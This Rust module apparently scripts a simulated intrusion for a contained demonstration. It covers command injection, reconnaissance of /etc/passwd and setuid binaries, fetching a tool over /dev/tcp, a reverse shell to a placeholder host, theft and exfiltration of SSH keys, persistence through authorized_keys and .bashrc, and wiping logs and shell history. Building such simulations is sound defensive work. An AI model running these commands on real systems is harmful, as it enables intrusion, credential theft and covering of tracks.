//! What the intruder does, in order.
//!
//! In a command, `{tmp}`, `{srv}` stand for the directories of the scratch directory, `{home}` for
//! where the intruder serves his tool and takes what is sent (`ADDRESS/PORT`), `{names}` for his
//! name server (`ADDRESS:PORT`), and `{port}` for where he waits for a shell.

/// One thing that the intruder does.
#[derive(Debug)]
pub(crate) struct Step {
    /// What, for people.
    pub(crate) what: &'static str,
    /// How the command gets to where it runs.
    pub(crate) way: Way,
    /// The command, or the path of a page.
    pub(crate) command: &'static str,
}

/// How a command gets to where it runs.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Way {
    /// Not a command: asks for a page, as anybody would.
    Visit,
    /// Appended to a parameter of a request, whose answer is awaited.
    Inject,
    /// The same, but what comes is a shell over a connection of its own.
    Enter,
    /// Typed into that shell.
    Type,
    /// Typed into that shell, which ends; then the request from which it came is answered.
    Leave,
}

use Way::{Enter, Inject, Leave, Type, Visit};

/// The whole break-in.
pub(crate) const STORY: &[Step] = &[
    step("looks at the site", Visit, "/"),
    step("finds that a parameter gets to a shell", Inject, "id; uname -a"),
    step("reads who has an account", Inject, "cat /etc/passwd"),
    step(
        "asks whether the password hashes may be read (reads none)",
        Inject,
        "head -c 0 /etc/shadow && echo yes",
    ),
    step(
        "looks for programs that run as root",
        Inject,
        "find /usr/bin /usr/sbin -maxdepth 1 -perm -4000",
    ),
    step(
        "looks at the host and what runs there",
        Inject,
        "ls /proc /home; cat /proc/1/comm /proc/version /proc/net/tcp",
    ),
    step(
        "looks for passwords in the environment of the service",
        Inject,
        "cat /proc/$PPID/environ | tr '\\0' '\\n' | grep PASS",
    ),
    step(
        "fetches a tool into a hidden file",
        Inject,
        "bash -c '{ echo GET /x >&3; cat <&3; } 3<>/dev/tcp/{home} >{tmp}/.x'",
    ),
    step("makes it a program", Inject, "chmod +x {tmp}/.x; ls -l {tmp}/.x"),
    step(
        "runs it: it looks up cdn.example.net, connects to it, and hands over a shell",
        Enter,
        "{tmp}/.x {names} cdn.example.net {port}",
    ),
    step("asks who and where he is", Type, "whoami; hostname; pwd"),
    step("looks around at home", Type, "ls -la ~ ~/.ssh"),
    step("searches for keys", Type, "grep -rl 'PRIVATE KEY' ~"),
    step("reads one", Type, "cat ~/.ssh/id_ed25519"),
    step("sends all of them out", Type, "tar cf - -C ~ .ssh >/dev/tcp/{home}"),
    step(
        "puts in a key of his own, so that he can come back",
        Type,
        "echo 'ssh-ed25519 AAAAmadeupforademonstrationopensnothing intruder@example.net' \
         >>~/.ssh/authorized_keys",
    ),
    step("gives that file an old time", Type, "touch -r /etc/passwd ~/.ssh/authorized_keys"),
    step(
        "has every later shell start his tool",
        Type,
        "echo '{tmp}/.x {names} cdn.example.net {port} &' >>~/.bashrc",
    ),
    step("removes the tool, which goes on running", Type, "rm -f {tmp}/.x"),
    step("empties the log of the service", Type, ": >{srv}/access.log"),
    step("removes the history of the shell", Type, "unset HISTFILE; rm -f ~/.bash_history"),
    step("leaves", Leave, "exit"),
];

const fn step(what: &'static str, way: Way, command: &'static str) -> Step {
    Step { what, way, command }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_shell_is_used_only_while_it_is_there() {
        let ways: Vec<Way> = STORY.iter().map(|step| step.way).collect();
        let enter = ways.iter().position(|way| *way == Enter).unwrap();
        let leave = ways.iter().position(|way| *way == Leave).unwrap();
        assert!(ways[..enter].iter().all(|way| matches!(way, Visit | Inject)));
        assert!(ways[enter + 1..leave].iter().all(|way| *way == Type));
        assert_eq!(leave, ways.len() - 1);
    }

    #[test]
    fn nothing_is_written_outside_of_the_scratch_directory() {
        for step in STORY {
            for (at, _) in step.command.match_indices('>') {
                let target = step.command[at + 1..].trim_start_matches('>');
                // `>/dev/tcp/{home}` is a connection to the intruder, `3<>` the same, `>&3` a copy.
                let inside = ["{tmp}/", "{srv}/", "~/", "/dev/tcp/{home}", "&3"];
                assert!(inside.iter().any(|i| target.starts_with(i)), "{}", step.command);
            }
        }
    }
}
